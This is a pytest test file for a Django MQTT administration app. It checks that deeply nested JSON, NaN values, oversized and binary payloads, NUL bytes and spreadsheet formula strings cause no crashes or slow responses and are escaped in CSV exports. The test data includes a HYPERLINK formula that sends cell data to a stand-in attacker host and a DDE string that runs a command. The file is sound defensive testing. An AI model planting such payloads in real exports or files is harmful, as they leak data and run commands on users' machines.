"""Hostile payloads and input: deep JSON, NaN, megabytes, binary, NUL, formulas.

The corpus is published through a real Mosquitto and the real runtime, then every
page, API call and export that shows it is requested as a viewer: no 500, each
answer within a few seconds, and the action runs of an unrelated product still
complete. Focused tests below pin each guarantee (bounded parsing, the stored
payload cap, bounded list pages, CSV cells, NUL and out-of-range input, device CSV
import limits) through each interface, as the lowest role that could try it.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import time
from typing import Any

import paho.mqtt.client as mqtt
import pytest
from django.utils import timezone

from actions.models import ActionRun, ActionRunState
from actions.runner import run_action_batch
from brokers.models import (
    Broker,
    BrokerStatus,
    ProductMqttConfig,
    Subscription,
)
from devices.models import Device, DeviceImport
from history.models import StoredMessage, Topic
from mqttadmin.lib.csv_cells import FORMULA_STARTS
from mqttadmin.lib.payloads import parse_json
from mqttadmin.pipeline import ReceivedMessage
from runtime.ingest import store_batch
from tests.clients import HTMX, as_user, logged_in
from tests.factories import (
    make_broker_subscribed_to_all,
    make_device,
    make_product,
    make_user,
)
from tests.runtime_support import retrying, wait_until

DEEP = b"[" * 50_000 + b"]" * 50_000
TWO_MB = b'{"blob": "' + b"x" * (2 * 1024 * 1024) + b'"}'
FORMULA = b'=HYPERLINK("https://evil.example/?x="&A1,"click")'
# Each request of a hostile page must answer well within this (seconds).
FAST = 3.0


def _strict_json(line: str) -> Any:
    """json.loads that refuses NaN and Infinity, as browsers and jq do."""

    def refuse(name: str) -> Any:
        raise ValueError(f"{name} is not JSON")

    return json.loads(line, parse_constant=refuse)


def _streamed(response: Any) -> bytes:
    """The body of a streaming response (the test client's type does not say)."""
    return b"".join(response.streaming_content)


def _timed(call: Any, *args: Any, **kwargs: Any) -> Any:
    started = time.monotonic()
    response = call(*args, **kwargs)
    if hasattr(response, "streaming_content"):
        body = b"".join(response.streaming_content)
        response.body_bytes = body
    else:
        response.body_bytes = response.content
    elapsed = time.monotonic() - started
    assert response.status_code != 500, (args, response.body_bytes[:300])
    assert elapsed < FAST, (args, elapsed)
    return response


def _csv_cells(body: bytes) -> list[list[str]]:
    # Stored payloads reach 256 KiB; Python's reader stops at 128 KiB per field.
    limit = csv.field_size_limit(16 * 1024 * 1024)
    try:
        return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    finally:
        csv.field_size_limit(limit)


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell[:80]


def _received(broker: Broker, topic: str, payload: bytes) -> ReceivedMessage:
    return ReceivedMessage(broker.pk, topic, payload, 0, False, timezone.now())


def _broker(product: Any, **fields: Any) -> Broker:
    fields.setdefault("name", "b")
    return make_broker_subscribed_to_all(
        product, via_service=False, status="disconnected", **fields
    )


# --- The corpus through a real broker ------------------------------------------


def _publish(port: int, messages: list[tuple[str, bytes]]) -> None:
    publisher = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id="hostile-pub")
    publisher.connect("127.0.0.1", port)
    publisher.loop_start()
    try:
        for topic, payload in messages:
            publisher.publish(topic, payload, qos=1).wait_for_publish(10)
    finally:
        publisher.loop_stop()
        publisher.disconnect()


@pytest.mark.mosquitto
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("sqlite_readers_do_not_wait")
def test_hostile_corpus_through_a_real_broker(
    mosquitto: Any, start_runtime: Any, settings: Any
) -> None:
    # Action runs execute in this process (no Celery worker runs here, even when
    # REDIS_URL is set).
    settings.CELERY_TASK_ALWAYS_EAGER = True
    server = mosquitto()
    viewer = make_user("vera")
    plant = retrying(make_product, "Plant", viewer=viewer)
    other = retrying(make_product, "Other")
    broker = retrying(
        Broker.objects.create,
        product=plant,
        name="plant",
        host="127.0.0.1",
        port=server.port,
    )
    other_broker = retrying(
        Broker.objects.create,
        product=other,
        name="other",
        host="127.0.0.1",
        port=server.port,
    )
    email = [{"type": "email", "to": ["ops@example.com"], "subject": "{{ topic }}"}]
    hostile_sub = retrying(
        Subscription.objects.create,
        broker=broker,
        name="all",
        topic_filter="#",
        actions=[
            {"type": "alert", "value": "{{ payload.v }}", "op": ">", "threshold": 1},
            *email,
        ],
    )
    other_sub = retrying(
        Subscription.objects.create,
        broker=other_broker,
        name="quiet",
        topic_filter="quiet/#",
        actions=email,
    )
    device = retrying(make_device, plant, broker, "d1")
    start_runtime("hostile")
    wait_until(
        lambda: (
            retrying(
                BrokerStatus.objects.filter(
                    broker__in=[broker, other_broker], state="connected"
                ).count
            )
            == 2
        ),
        15,
        "both brokers connected",
    )

    corpus: list[tuple[str, bytes]] = [
        ("plant/d1/telemetry", DEEP),
        ("deep/json", DEEP),
        ("deep/nan", b"NaN"),
        ("deep/infinity", b'{"v": Infinity}'),
        ("deep/big-number", b"1e999"),
        ("deep/huge-int", b"9" * 5000),
        ("deep/two-mb", TWO_MB),
        ("deep/binary", bytes(range(256))),
        ("deep/nul", b"a\x00b"),
        ("deep/formula", FORMULA),
        ("deep/plus", b"+1+1"),
        ("@SUM(A1)", b"@SUM(A1:A9)"),
        ("=cmd|' /C calc'!A0", b"-2+3"),
    ]
    other_quiet = [b'{"v": 1}', b"2"]
    _publish(server.port, corpus + [("quiet/room", p) for p in other_quiet])
    # Mosquitto drops a client publishing past 200 levels; others may take it.
    long_topic = "/".join(f"l{i}" for i in range(250))
    with contextlib.suppress(RuntimeError, ValueError, OSError):
        _publish(server.port, [(long_topic, b"levels")])

    wanted = len(corpus)
    wait_until(
        lambda: retrying(StoredMessage.objects.filter(broker=broker).count) >= wanted,
        20,
        "the corpus stored",
    )
    # Every run ends (done or failed with its error), the other product's all done.
    wait_until(
        lambda: (
            not retrying(ActionRun.objects.filter(state=ActionRunState.PENDING).exists)
        ),
        20,
        "no action run left pending",
    )
    other_runs = retrying(
        list, ActionRun.objects.filter(subscription=other_sub).values_list("state")
    )
    assert other_runs == [(ActionRunState.DONE,)] * len(other_quiet)
    assert retrying(ActionRun.objects.filter(subscription=hostile_sub).count) >= wanted

    page = logged_in(viewer, plant)
    api = as_user(viewer)
    base = f"/brokers/{broker.pk}/"
    messages_url = f"/api/v1/brokers/{broker.pk}/messages/"
    for url in (
        f"{base}?tab=activity",
        f"{base}?tab=topics",
        f"{base}?tab=topics&expand=all",
        f"{base}?tab=overview",
        f"/devices/{device.pk}/",
        "/devices/",
    ):
        assert _timed(retrying, page.get, url).status_code == 200, url
    assert _timed(retrying, page.get, f"{base}?tab=activity", **HTMX)
    for topic_id in retrying(
        list, Topic.objects.filter(broker=broker).values_list("id", flat=True)
    ):
        response = _timed(retrying, page.get, f"{base}topics/{topic_id}/")
        assert response.status_code == 200

    listed = _timed(retrying, api.get, messages_url, {"limit": 100})
    assert listed.status_code == 200
    assert len(listed.body_bytes) < 2 * 1024 * 1024  # the 2 MB payload is not in it
    results = {m["topic"]: m for m in listed.json()["results"]}
    assert results["deep/json"]["payload_encoding"] == "text"
    assert results["deep/nan"]["payload"] == "NaN"
    assert results["deep/infinity"]["payload"] == '{"v": Infinity}'
    assert results["deep/big-number"]["payload"] == "1e999"
    assert results["deep/two-mb"]["payload_truncated"] is True
    assert results["deep/two-mb"]["payload_size"] == len(TWO_MB)
    assert results["deep/binary"]["payload"] == base64.b64encode(
        bytes(range(256))
    ).decode("ascii")
    for message in listed.json()["results"]:
        detail = _timed(retrying, api.get, f"{messages_url}{message['id']}/")
        assert detail.status_code == 200
    topics = _timed(retrying, api.get, f"/api/v1/brokers/{broker.pk}/topics/")
    assert topics.status_code == 200
    telemetry = _timed(retrying, api.get, f"/api/v1/devices/{device.pk}/telemetry/")
    assert telemetry.status_code == 200

    ndjson = _timed(retrying, api.get, messages_url, {"format": "ndjson"})
    lines = ndjson.body_bytes.decode("utf-8").splitlines()
    assert len(lines) >= wanted
    for line in lines:
        _strict_json(line)
    exported = _timed(retrying, api.get, messages_url, {"format": "csv"})
    rows = _csv_cells(exported.body_bytes)
    assert len(rows) >= wanted + 1
    _assert_no_formula_cells(rows)
    assert any(row[6] == "'" + FORMULA.decode() for row in rows)
    assert any(row[2] == "'@SUM(A1)" for row in rows)


# --- Bounded parsing ------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000 + "]" * 50_000,
        '{"a":' * 10_000 + "1" + "}" * 10_000,
        "[" * 65 + "]" * 65,
        "NaN",
        '{"v": -Infinity}',
        "1e999",
        "[1e400]",
        "9" * 5000,
        '{"v": 1',
    ],
)
def test_parse_json_refuses_what_is_not_bounded_finite_json(text: str) -> None:
    assert parse_json(text) is None


def test_parse_json_reads_ordinary_json_and_strings_with_brackets() -> None:
    parsed = parse_json('{"a": [1, 2.5, {"b": "[[[[["}], "c": null}')
    assert parsed is not None
    assert parsed.value == {
        "a": [1, 2.5, {"b": "[[[[["}],
        "c": None,
    }
    assert parse_json("[" * 64 + "]" * 64) is not None
    parsed = parse_json(b'"\\u00e9"')
    assert parsed is not None
    assert parsed.value == "é"


@pytest.mark.django_db
def test_a_deep_json_action_run_fails_alone_and_the_batch_runs() -> None:
    """Before: RecursionError escaped the batch and every run in it, of any
    product, stayed pending."""
    hostile = _broker(make_product(), name="hostile")
    quiet = _broker(make_product(), name="quiet")
    hostile_sub = Subscription.objects.create(
        broker=hostile,
        name="a",
        topic_filter="#",
        actions=[
            {"type": "alert", "value": "{{ payload }}", "op": ">", "threshold": 1}
        ],
    )
    quiet_sub = Subscription.objects.create(
        broker=quiet,
        name="q",
        topic_filter="#",
        actions=[{"type": "email", "to": ["ops@example.com"], "subject": "x"}],
    )
    now = timezone.now()
    runs = [
        ActionRun.objects.create(
            subscription=hostile_sub, topic="t", payload=DEEP, received_at=now
        ),
        ActionRun.objects.create(
            subscription=quiet_sub, topic="t", payload=b'{"v": 1}', received_at=now
        ),
    ]

    run_action_batch([run.pk for run in runs])

    hostile_run, quiet_run = (ActionRun.objects.get(pk=run.pk) for run in runs)
    assert quiet_run.state == ActionRunState.DONE
    assert hostile_run.state == ActionRunState.FAILED and hostile_run.error


@pytest.mark.django_db
def test_deep_json_ingest_keeps_its_batch_and_device_telemetry(world: dict) -> None:
    """Before: the device telemetry parser's RecursionError made the whole batch a
    poison batch and the deep message a dead letter."""
    broker = _broker(world["product"])
    make_device(world["product"], broker, "d1")
    store_batch(
        [
            _received(broker, "plant/d1/telemetry", DEEP),
            _received(broker, "plant/d1/telemetry", b'{"temperature": 21.5}'),
        ]
    )
    assert StoredMessage.objects.filter(broker=broker).count() == 2
    device = Device.objects.get(device_id="d1")
    assert device.last_values["temperature"]["value"] == 21.5


@pytest.mark.django_db
def test_non_finite_payloads_come_back_byte_exact_and_ndjson_stays_json(
    world: dict,
) -> None:
    broker = _broker(world["product"])
    payloads = [b"NaN", b'{"v": Infinity}', b"1e999", b"[-Infinity]", DEEP]
    store_batch([_received(broker, f"n/{i}", p) for i, p in enumerate(payloads)])
    client = as_user(world["users"]["viewer"])
    url = f"/api/v1/brokers/{broker.pk}/messages/"

    results = client.get(url).json()["results"]
    shown = {m["topic"]: m["payload"] for m in results}
    assert {t: shown[t] for t in ("n/0", "n/1", "n/2", "n/3")} == {
        f"n/{i}": p.decode() for i, p in enumerate(payloads[:4])
    }
    assert shown["n/4"] == DEEP[:8192].decode()  # a list reads a prefix
    assert {m["payload_encoding"] for m in results} == {"text"}
    body = _streamed(client.get(url, {"format": "ndjson"}))
    documents = [_strict_json(line) for line in body.decode().splitlines()]
    assert sorted(d["payload"] for d in documents) == sorted(
        p.decode() for p in payloads
    )
    topics = client.get(f"/api/v1/brokers/{broker.pk}/topics/")
    assert topics.status_code == 200
    page = logged_in(world["users"]["viewer"], world["product"])
    assert page.get(f"/brokers/{broker.pk}/?tab=activity").status_code == 200
    assert page.get(f"/brokers/{broker.pk}/?tab=topics").status_code == 200


# --- The stored payload cap and bounded pages -------------------------------------


@pytest.mark.django_db
def test_payloads_over_the_broker_cap_are_stored_truncated_with_their_size(
    world: dict,
) -> None:
    broker = _broker(world["product"], history_payload_max_bytes=1024)
    text = ("é" * 3000).encode()  # 6,000 bytes, two per character
    store_batch(
        [
            _received(broker, "big/text", text),
            _received(broker, "big/binary", b"\xff" * 5000),
            _received(broker, "small", b"ok"),
        ]
    )
    stored = {m.topic: m for m in StoredMessage.objects.filter(broker=broker)}
    assert stored["big/text"].payload_truncated
    assert stored["big/text"].payload_size == 6000
    assert stored["big/text"].text == "é" * 512  # cut between characters
    assert bytes(stored["big/binary"].data) == b"\xff" * 1024
    assert stored["big/binary"].payload_size == 5000
    assert not stored["small"].payload_truncated
    assert stored["small"].payload_size == 2

    client = as_user(world["users"]["viewer"])
    url = f"/api/v1/brokers/{broker.pk}/messages/"
    listed = {m["topic"]: m for m in client.get(url).json()["results"]}
    assert listed["big/text"]["payload_truncated"] is True
    assert listed["big/text"]["payload_size"] == 6000
    assert listed["small"]["payload_truncated"] is False
    rows = _csv_cells(_streamed(client.get(url, {"format": "csv"})))
    assert rows[0][-2:] == ["payload_size", "payload_truncated"]
    assert {row[2]: row[-2:] for row in rows[1:]}["big/binary"] == ["5000", "1"]
    page = logged_in(world["users"]["viewer"], world["product"])
    html = page.get(f"/brokers/{broker.pk}/?tab=activity").content.decode()
    assert "truncated: 6000 bytes received" in html


@pytest.mark.django_db
def test_a_history_page_is_bounded_and_the_detail_gives_the_whole_payload(
    world: dict,
) -> None:
    """Before: three 20 MB messages made a 60 MB list response."""
    broker = _broker(world["product"], history_payload_max_bytes=4 * 1024 * 1024)
    big = b"y" * (3 * 1024 * 1024)
    store_batch([_received(broker, f"big/{i}", big) for i in range(3)])
    client = as_user(world["users"]["viewer"])
    url = f"/api/v1/brokers/{broker.pk}/messages/"

    response = client.get(url, {"limit": 100})
    assert response.status_code == 200
    assert len(response.content) < 64 * 1024
    results = response.json()["results"]
    assert len(results) == 3
    assert all(m["payload_cut"] and len(m["payload"]) == 8192 for m in results)
    assert all(m["payload_size"] == len(big) for m in results)
    detail = client.get(f"{url}{results[0]['id']}/").json()
    assert detail["payload"] == big.decode() and detail["payload_cut"] is False
    other = as_user(world["users"]["outsider"])
    assert other.get(f"{url}{results[0]['id']}/").status_code == 404


@pytest.mark.django_db
def test_a_page_of_many_large_payloads_ends_early_with_a_cursor(world: dict) -> None:
    broker = _broker(world["product"])
    store_batch([_received(broker, f"m/{i}", b"z" * 20_000) for i in range(300)])
    client = as_user(world["users"]["viewer"])
    url = f"/api/v1/brokers/{broker.pk}/messages/"

    first = client.get(url, {"limit": 1000}).json()
    assert 0 < len(first["results"]) < 300 and first["next_cursor"]
    seen = len(first["results"])
    cursor = first["next_cursor"]
    while cursor:
        page = client.get(url, {"limit": 1000, "cursor": cursor}).json()
        seen += len(page["results"])
        cursor = page["next_cursor"]
    assert seen == 300


@pytest.mark.django_db
@pytest.mark.parametrize("value", [0, 63, 268435456, "lots"])
def test_the_stored_payload_cap_is_validated_in_api_and_form(
    world: dict, value: Any
) -> None:
    broker = _broker(world["product"])
    operator = world["users"]["operator"]
    response = as_user(operator).patch(
        f"/api/v1/brokers/{broker.pk}/",
        {"history_payload_max_bytes": value},
        format="json",
    )
    assert response.status_code == 400
    assert "history_payload_max_bytes" in response.json()
    broker.refresh_from_db()
    assert broker.history_payload_max_bytes == 256 * 1024


@pytest.mark.django_db
def test_the_stored_payload_cap_is_changed_by_operators_only(world: dict) -> None:
    broker = _broker(world["product"])
    url = f"/api/v1/brokers/{broker.pk}/"
    body = {"history_payload_max_bytes": 4096}
    viewer = as_user(world["users"]["viewer"])
    assert viewer.patch(url, body, format="json").status_code == 403
    broker.refresh_from_db()
    assert broker.history_payload_max_bytes == 256 * 1024
    operator = as_user(world["users"]["operator"])
    response = operator.patch(url, body, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["history_payload_max_bytes"] == 4096


# --- CSV cells --------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_export_cells_cannot_run_as_formulas(world: dict) -> None:
    broker = _broker(world["product"])
    hostile = [
        ("=1+1", FORMULA),
        ("@SUM(A1)", b"@SUM(A1:A9)"),
        ("+x", b"+1+1"),
        ("-x", b"-1"),
        ("tab", b"\tcell"),
        ("cr", b"\rcell"),
        ("json", b'"=1+1"'),
    ]
    store_batch([_received(broker, t, p) for t, p in hostile])
    body = _streamed(
        as_user(world["users"]["viewer"]).get(
            f"/api/v1/brokers/{broker.pk}/messages/", {"format": "csv"}
        )
    )
    rows = _csv_cells(body)
    _assert_no_formula_cells(rows)
    by_topic = {row[2]: row[6] for row in rows[1:]}
    assert by_topic["'=1+1"] == "'" + FORMULA.decode()
    assert by_topic["'@SUM(A1)"] == "'@SUM(A1:A9)"
    assert by_topic["'+x"] == "'+1+1"
    assert by_topic["'-x"] == "'-1"
    assert by_topic["tab"] == "'\tcell"
    assert by_topic["json"] == '"=1+1"'  # a JSON string: starts with a quote


# --- NUL and out-of-range input ----------------------------------------------------


@pytest.mark.django_db
def test_nul_in_query_parameters_is_a_400_naming_the_field(world: dict) -> None:
    broker = _broker(world["product"])
    viewer = world["users"]["viewer"]
    api_url = f"/api/v1/brokers/{broker.pk}/messages/"
    response: Any = as_user(viewer).get(api_url, {"search": "a\x00b"})
    assert response.status_code == 400
    assert "search" in response.json()
    response = as_user(viewer).get(api_url, {"topic": "a\x00"})
    assert response.status_code == 400 and "topic" in response.json()
    page = logged_in(viewer, world["product"])
    response = page.get(f"/brokers/{broker.pk}/", {"tab": "activity", "search": "\x00"})
    assert response.status_code == 400
    assert b"search" in response.content
    assert as_user(viewer).get("/api/v1/devices/", {"q\x00": "1"}).status_code == 400


@pytest.mark.django_db
def test_nul_in_json_bodies_is_a_400_naming_the_field_and_changes_nothing(
    world: dict,
) -> None:
    broker = _broker(world["product"])
    operator = as_user(world["users"]["operator"])
    response = operator.post(
        "/api/v1/subscriptions/",
        {
            "broker": broker.pk,
            "name": "s",
            "topic_filter": "a/#",
            "actions": [
                {"type": "email", "to": ["ops@example.com"], "subject": "x\x00"}
            ],
        },
        format="json",
    )
    assert response.status_code == 400
    assert "actions" in response.json()
    assert not Subscription.objects.filter(name="s").exists()

    response = operator.patch(
        f"/api/v1/brokers/{broker.pk}/",
        {"fallback_hosts": ["backup\x00:1883"]},
        format="json",
    )
    assert response.status_code == 400 and "fallback_hosts" in response.json()
    broker.refresh_from_db()
    assert broker.fallback_hosts == []

    response = operator.put(
        f"/api/v1/products/{world['product'].pk}/mqtt-config/",
        {"broker": {"host": "127.0.0.1", "port": 1883}, "topics": {"prefix": "a\x00"}},
        format="json",
    )
    assert response.status_code == 400 and "topics" in response.json()
    assert not ProductMqttConfig.objects.filter(
        product=world["product"], topic_prefix__contains="a"
    ).exists()


@pytest.mark.django_db
def test_deep_json_bodies_are_a_400(world: dict) -> None:
    broker = _broker(world["product"])
    response = as_user(world["users"]["operator"]).generic(
        "PATCH",
        f"/api/v1/brokers/{broker.pk}/",
        # DRF's stubs take str data; Django's test client sends bytes as given.
        b'{"fallback_hosts": ' + DEEP + b"}",  # type: ignore[arg-type]
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "nested deeper" in response.json()["detail"]


@pytest.mark.django_db
@pytest.mark.parametrize("param", ["until", "since"])
def test_times_out_of_range_are_a_400_naming_the_field(world: dict, param: str) -> None:
    broker = _broker(world["product"])
    device = make_device(world["product"], broker, "d1")
    viewer = as_user(world["users"]["viewer"])
    for value in ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59+00:00"):
        response = viewer.get(f"/api/v1/devices/{device.pk}/telemetry/", {param: value})
        assert response.status_code == 400, response.content
        assert param in response.json()
        response = viewer.get(f"/api/v1/brokers/{broker.pk}/messages/", {param: value})
        assert response.status_code == 400 and param in response.json()


# --- Device CSV import limits ------------------------------------------------------


@pytest.mark.django_db
def test_csv_import_bodies_over_the_cap_are_refused_by_the_file_field(
    world: dict, settings: Any
) -> None:
    settings.MQTTADMIN_DEVICE_IMPORT_MAX_BYTES = 4096
    broker = _broker(world["product"])
    url = f"/api/v1/devices/import/?product={world['product'].pk}&broker={broker.pk}"
    body = b"device_id,name,type,topic\n" + b"\n" * 10_000 + b"d1,D,t,plant/d1\n"
    operator = as_user(world["users"]["operator"])
    started = time.monotonic()
    # DRF's stubs take str data; Django's test client sends bytes as given.
    response: Any = operator.generic("POST", url, body, content_type="text/csv")  # type: ignore[arg-type]
    assert time.monotonic() - started < FAST
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "file"
    upload = io.BytesIO(body)
    upload.name = "devices.csv"
    response = operator.post(url, {"file": upload}, format="multipart")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "file"

    page = logged_in(world["users"]["operator"], world["product"])
    upload = io.BytesIO(body)
    upload.name = "devices.csv"
    response = page.post("/devices/import/", {"broker": broker.pk, "file": upload})
    assert response.status_code == 200
    assert b"larger than 4096 bytes" in response.content
    assert not Device.objects.exists() and not DeviceImport.objects.exists()


@pytest.mark.django_db
def test_csv_import_of_blank_lines_is_bounded(world: dict) -> None:
    """Before: megabytes of blank lines were read line by line for seconds."""
    broker = _broker(world["product"])
    url = f"/api/v1/devices/import/?product={world['product'].pk}&broker={broker.pk}"
    body = b"device_id,name,type,topic\n" + b"\n" * 20_000_000
    started = time.monotonic()
    # DRF's stubs take str data; Django's test client sends bytes as given.
    response = as_user(world["users"]["operator"]).generic(
        "POST",
        url,
        body,  # type: ignore[arg-type]
        content_type="text/csv",
    )
    assert time.monotonic() - started < FAST
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "file"
    assert not Device.objects.exists()


@pytest.mark.django_db
def test_nul_in_mqtt5_properties_is_stored_escaped(world: dict) -> None:
    """PostgreSQL's jsonb refuses U+0000: such a property failed every retry."""
    broker = _broker(world["product"])
    message = _received(broker, "p", b"a\x00b")
    message.properties = {"UserProperty": [("k\x00", "v\x00")], "ContentType": "x\x00"}
    store_batch([message])
    stored = StoredMessage.objects.get(broker=broker)
    assert stored.properties == {
        "UserProperty": [["k\\u0000", "v\\u0000"]],
        "ContentType": "x\\u0000",
    }
    assert stored.data is not None
    assert bytes(stored.data) == b"a\x00b"
